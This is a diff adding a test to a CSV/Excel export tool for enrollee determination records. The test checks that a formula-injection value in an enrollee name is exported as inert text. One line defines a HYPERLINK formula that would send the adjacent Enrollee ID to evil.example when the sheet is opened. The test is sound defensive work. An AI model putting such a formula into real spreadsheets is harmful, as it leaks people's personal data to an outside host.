@@ -167,3 +167,28 @@ def test_csv_and_excel_files(tmp_path: Path) -> None:
     assert wb.sheetnames == [*TABLES, "Self-check"]
     assert [c.value for c in wb["OD"][1]] == COLUMNS["OD"] and wb["OD"].max_row == 4
     assert wb["Self-check"].max_row == 1 + len(uni.findings)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
+
+
+def test_a_formula_in_an_enrollee_name_is_exported_as_text(tmp_path: Path) -> None:
+    """Formula injection (issue 9): the name would send the neighbouring Enrollee ID away when the file is opened."""
+    from openpyxl import load_workbook
+
+    hostile = _ev(_case("integrated_organization_determination", enrollee_name=FORMULA), "decide",
+                  dt.datetime(2021, 3, 5, 10, tzinfo=NY), decision="favorable")
+    uni = build([_view(1, hostile)])
+    (path,) = write(uni, tmp_path / "od.csv", tables=["OD"])
+    with path.open(encoding="utf-8", newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    # one word, so the name is both first and last name; a leading quote makes the spreadsheet show it as text
+    assert row["Enrollee First Name"] == row["Enrollee Last Name"] == "'" + FORMULA
+    assert row["Enrollee ID"] == "1EG4TE5MK73"
+    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
+    (xlsx,) = write(uni, tmp_path / "od.xlsx", tables=["OD"])
+    sheet = load_workbook(xlsx)["OD"]
+    first = sheet.cell(row=2, column=COLUMNS["OD"].index("Enrollee First Name") + 1)
+    assert first.data_type == "s" and first.value == "'" + FORMULA  # a string cell, not a formula
+    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
+    assert load_workbook(xlsx, data_only=False)["OD"].cell(row=2, column=3).value == row[COLUMNS["OD"][2]]
